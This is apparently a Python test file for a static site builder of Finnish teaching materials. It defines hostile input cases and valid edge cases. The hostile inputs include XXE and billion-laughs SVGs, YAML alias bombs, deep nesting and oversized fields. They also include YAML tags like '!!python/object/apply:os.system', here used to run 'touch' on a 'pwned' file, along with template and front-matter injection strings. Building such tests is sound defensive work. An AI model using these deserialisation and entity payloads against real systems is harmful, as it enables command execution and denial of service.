             _image("svg", (PAYLOADS / "svg-external.svg").read_text(encoding="utf-8"), "svg"), SVG_LINE,
             build="fail-or-clean", leak=["svg-external.svg"])
hostile_file("file-svg-xxe", "an SVG with an external ENTITY reading a file outside the repository",
             _image("svg", (PAYLOADS / "svg-xxe.svg").read_text(encoding="utf-8"), "svg"), SVG_LINE,
             build="fail-or-clean", leak=["svg-xxe.txt"])
hostile_file("file-svg-laughs", "an SVG with a billion-laughs ENTITY expansion",
             _image("svg", (PAYLOADS / "svg-laughs.svg").read_text(encoding="utf-8"), "svg"), SVG_LINE,
             build="fail-or-clean")
hostile_file("file-image-6mb", "a 6 MB PNG image",
             _image("png", png_bytes(padding=6_000_000), "png"),
             Where(THEME, needle="path: kuva.png", words=("suuri", "MB", "Mt", "megatavu", "koko", "enintään")))
hostile_file("file-field-5mb", "a 5 MB summary pasted into theme.yml",
             lambda r, c: edit(r, THEME, "summary: Ryhmä tutustuu toisiinsa.\n",
                               "summary: " + "Ryhmä tutustuu toisiinsa. " * 200_000 + "\n"),
             (Where(THEME, needle="summary:", words=("pitkä", "merkkiä", "enintään", "suuri")),
              Where(THEME, line=1, words=("pitkä", "merkkiä", "enintään", "suuri"))), owner="H1")
hostile_file("file-handout-6mb", "a 6 MB handout",
             lambda r, c: write(r, HANDOUT, "## Moniste\n\n" + "Kirjoita nimesi. " * 380_000 + "\n"),
             (Where(THEME, needle="monisteet/mina.md", words=("pitkä", "merkkiä", "enintään", "suuri")),
              Where(HANDOUT, line=1, words=("pitkä", "merkkiä", "enintään", "suuri"))), owner="H1")
hostile_file("file-yaml-deep-nesting", "5,000 nested lists in theme.yml",
             lambda r, c: edit(r, THEME, "goals:\n  - Osaan kertoa nimeni.\n",
                               "goals: " + "[" * 5000 + "]" * 5000 + "\n"),
             Where(THEME, needle="goals:", words=("sisäkk", "syv", "tasoa", "sisäkkäin", "sisäk")), owner="H1")
hostile_file("file-yaml-python-name", "!!python/name:os.system in a summary",
             lambda r, c: edit(r, THEME, "summary: Ryhmä tutustuu toisiinsa.",
                               "summary: !!python/name:os.system Ryhmä"),
             Where(THEME, needle="!!python", words=TAG_WORDS), owner="H1")


def _not_run(root, ctx, result, site):
    return [f"!!python/object/apply ran a command: {ctx.outside / 'pwned'} exists"] if (ctx.outside / "pwned").exists() \
        else []


hostile_file("file-yaml-python-apply", "!!python/object/apply:os.system in a title",
             lambda r, c: edit(r, THEME, "\ntitle: Alku\n",
                               f"\ntitle: !!python/object/apply:os.system [{dq('touch ' + str(c.outside / 'pwned'))}]\n"),
             Where(THEME, needle="!!python", words=TAG_WORDS), owner="H1", extra=_not_run)
hostile_file("file-yaml-tag-directive", "a %TAG directive that maps !py! to python tags",
             lambda r, c: write(r, THEME, "%TAG !py! tag:yaml.org,2002:python/\n---\n"
                                + (r / THEME).read_text(encoding="utf-8").replace(
                                    "summary: Ryhmä", "summary: !py!name:os.system Ryhmä")),
             (Where(THEME, needle="!py!name", words=TAG_WORDS), Where(THEME, line=1, words=TAG_WORDS)), owner="H1")
hostile_file("file-yaml-alias-bomb", "a YAML alias bomb (billion laughs)",
             lambda r, c: write(r, THEME, (PAYLOADS / "alias-bomb.yml").read_text(encoding="utf-8")),
             Where(THEME, needle="a: &a", words=ANCHOR_WORDS), owner="H1")


# --- Valid variants -----------------------------------------------------------------------------------------

def valid(id, what, mutate, *, extra=None, owner="H1"):
    add(Case(id, "valid", what, mutate, owner=owner, extra=extra))


def _page(site, rel="teemat/alku/index.html"):
    return site.pages[rel]


def _heading_texts(site, rel="teemat/alku/index.html"):
    return [" ".join(t.text.split()) for t in _page(site, rel).texts
            if t.ancestors and t.ancestors[-1].tag in ("h1", "h2", "h3", "h4", "h5", "h6")]


def _handout_heading(root, ctx, result, site):
    found = []
    if not any("Kerro itsestäsi" in h for h in _heading_texts(site)):
        found.append(f"the handout's first heading is not a heading; headings: {_heading_texts(site)}")
    if "## Kerro" in site.visible():
        found.append("'## Kerro itsestäsi' shows as text")
    return found


def _nfc(root, ctx, result, site):
    found = [f"{name} is not NFC" for name, text in site.raw.items() if not unicodedata.is_normalized("NFC", text)]
    if "Ryhmä tutustuu toisiinsa" not in site.visible():
        found.append("'Ryhmä tutustuu toisiinsa' (NFC) not in the output")
    return found


def _to_nfd(rel):
    def mutate(root, ctx):
        path = root / rel
        path.write_text(unicodedata.normalize("NFD", path.read_text(encoding="utf-8")), encoding="utf-8")
    return mutate


def _start_time(root, ctx, result, site):
    text = " ".join(t.text for t in _page(site).texts)
    return [] if "alkavat 17.00" in " ".join(text.split()) else ["the theme page does not say 'alkavat 17.00'"]


def _title_exact(title):
    def extra(root, ctx, result, site):
        found = []
        page = _page(site)
        heads = [squash(t.text) for t in page.texts if t.ancestors and t.ancestors[-1].tag == "title"]
        if not heads or not heads[0].startswith(squash(f"1. {title}")):
            found.append(f"<title> is {heads[:1]}, expected it to start with {('1. ' + title)!r}")
        h1 = [squash(t.text) for t in page.texts if any(a.tag == "h1" for a in t.ancestors)]
        if squash(f"1. {title}") not in h1:
            found.append(f"<h1> texts are {h1}, expected {('1. ' + title)!r}")
        body = " ".join(t.text for t in page.texts if any(a.tag == "article" for a in t.ancestors))
        for leaked in ("title:", "description:"):
            if leaked in body:
                found.append(f"front matter leaked into the page body: {leaked!r} shows as text")
        return found
    return extra


def _crlf(root, ctx):
    for rel in (THEME, LESSON, PROGRAM, HANDOUT):
        path = root / rel
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))


def _bom(*rels):
    def mutate(root, ctx):
        for rel in rels:
            path = root / rel
            path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    return mutate


valid("valid-crlf", "CRLF line ends in every YAML file and the handout", _crlf, extra=_handout_heading)
valid("valid-bom-theme", "a UTF-8 BOM at the start of theme.yml", _bom(THEME))
valid("valid-bom-program-lesson", "a UTF-8 BOM in program.yml and lesson.yml", _bom(PROGRAM, LESSON))
valid("valid-bom-handout", "a UTF-8 BOM at the start of a handout (its first heading stays a heading)",
      _bom(HANDOUT), extra=_handout_heading)
valid("valid-bom-crlf-handout", "BOM and CRLF in a handout",
      lambda r, c: (r / HANDOUT).write_bytes(b"\xef\xbb\xbf" + (r / HANDOUT).read_bytes().replace(b"\n", b"\r\n")),
      extra=_handout_heading)
valid("valid-nfd-theme", "NFD text (as some Mac editors save it) in theme.yml and the handout",
      lambda r, c: (_to_nfd(THEME)(r, c), _to_nfd(HANDOUT)(r, c)), extra=_nfc)
valid("valid-nfd-lesson-program", "NFD text in lesson.yml and program.yml",
      lambda r, c: (_to_nfd(LESSON)(r, c), _to_nfd(PROGRAM)(r, c)), extra=_nfc)
valid("valid-start-time-colon", "start_time: 17:00 unquoted",
      lambda r, c: edit(r, PROGRAM, 'start_time: "17.00"', "start_time: 17:00"), extra=_start_time)
valid("valid-start-time-dot", "start_time: 17.00 unquoted",
      lambda r, c: edit(r, PROGRAM, 'start_time: "17.00"', "start_time: 17.00"), extra=_start_time)


def _saa(root, ctx):
    edit(root, THEME, "vocabulary:\n", "vocabulary:\n  - term: sää\n    word_class: noun\n    example: Sää on kaunis.\n"
                                       "  - term: saa\n    word_class: verb\n    example: Hän saa kirjeen.\n")
    (root / HANDOUT).write_text((root / HANDOUT).read_text(encoding="utf-8") + "\nSää on kaunis. Hän saa kirjeen.\n",
                                encoding="utf-8")


def _both_terms(root, ctx, result, site):
    terms = [" ".join(t.text.split()) for t in site.pages["sanasto/index.html"].texts
             if any(a.tag == "strong" for a in t.ancestors)]
    ids = [v for e in _page(site).elements for k, v in e.attrs if k == "id"]
    found = [] if "sää" in terms and "saa" in terms else [f"the glossary lacks 'sää' or 'saa': {terms}"]
    dupes = sorted({i for i in ids if ids.count(i) > 1})
    if dupes:
        found.append(f"duplicate ids on the theme page: {dupes}")
    return found


valid("valid-saa-and-saa", "terms 'sää' and 'saa' in one vocabulary", _saa, extra=_both_terms)
TITLE = 'Alku \\ | "lainaus": loppu'
valid("valid-title-specials", "a title with \\ | \" and : (front matter must hold)",
      lambda r, c: edit(r, THEME, "\ntitle: Alku\n", f"\ntitle: {dq(TITLE)}\n"), extra=_title_exact(TITLE), owner="lead")
valid("valid-title-backslash-end", "a title that ends with a backslash",
      lambda r, c: edit(r, THEME, "\ntitle: Alku\n", "\ntitle: 'Alku \\'\n"), extra=_title_exact("Alku \\"),
      owner="lead")
def _injection_title(root, ctx):
    edit(root, THEME, "\ntitle: Alku\n", '\ntitle: "Alku\\\\\\" hide: [navigation] #"\n')
    write(root, "wordlist.txt", "hide\nnavigation\n")  # English words on purpose: not a spelling test


valid("valid-title-newline-injection", "a title whose text looks like more front matter",
      _injection_title,
      extra=_title_exact('Alku\\" hide: [navigation] #'), owner="lead")
valid("valid-title-template-syntax", "a title with Jinja syntax {{ 7*7 }} shows it literally",
      lambda r, c: edit(r, THEME, "\ntitle: Alku\n", '\ntitle: "Alku {{ 7*7 }}"\n'),
      extra=_title_exact("Alku {{ 7*7 }}"), owner="lead")


def _safe_links(root, ctx):
    (root / HANDOUT).write_text((root / HANDOUT).read_text(encoding="utf-8")
                                + "\n[Lue lisää](https://www.kela.fi/) tai [kirjoita meille](mailto:info@example.org).\n",
                                encoding="utf-8")


def _links_kept(root, ctx, result, site):
    hrefs = {v for e in _page(site).elements if e.tag == "a" for k, v in e.attrs if k == "href"}
    return [f"safe link {h} was removed" for h in ("https://www.kela.fi/", "mailto:info@example.org") if h not in hrefs]


valid("valid-safe-links", "https: and mailto: links in a handout survive sanitising", _safe_links,
      extra=_links_kept, owner="lead")


def _markdown_rich(root, ctx):
    (root / HANDOUT).write_text((root / HANDOUT).read_text(encoding="utf-8")
                                + "\n**Tärkeää** on *kuunnella*.\n\n| Sana | Merkitys |\n|------|----------|\n"
                                  "| talo | koti |\n\n- yksi\n- kaksi\n", encoding="utf-8")


def _markdown_kept(root, ctx, result, site):
    tags = {e.tag for e in _page(site).elements}
    found = [f"<{t}> missing after sanitising" for t in ("table", "strong", "em", "ul", "h4") if t not in tags]
    if "auroras-key" not in site.raw["teemat/alku/index.html"]:
        found.append("the template's own class auroras-key was stripped")
    if 'class="admonition' not in site.raw["teemat/alku/index.html"]:
        found.append("the template's admonitions were stripped")
    return found


valid("valid-markdown-kept", "ordinary Markdown (bold, emphasis, table, list) survives sanitising",
      _markdown_rich, extra=_markdown_kept, owner="lead")
valid("valid-non-latin-translation", "an Arabic translation and an emoji-free Finnish example",
      lambda r, c: edit(r, THEME, "      en: mother\n", "      en: mother\n      ar: أم\n"),
      extra=lambda r, c, res, site: [] if "أم" in site.visible() else ["the Arabic translation is not in the output"])
valid("valid-long-instructions", "4 000 characters of instructions (length limits must allow real text)",
      lambda r, c: edit(r, THEME, "    instructions: Toivota kaikki tervetulleiksi.\n",
                        f"    instructions: {dq('Toivota kaikki tervetulleiksi. ' * 130)}\n"))
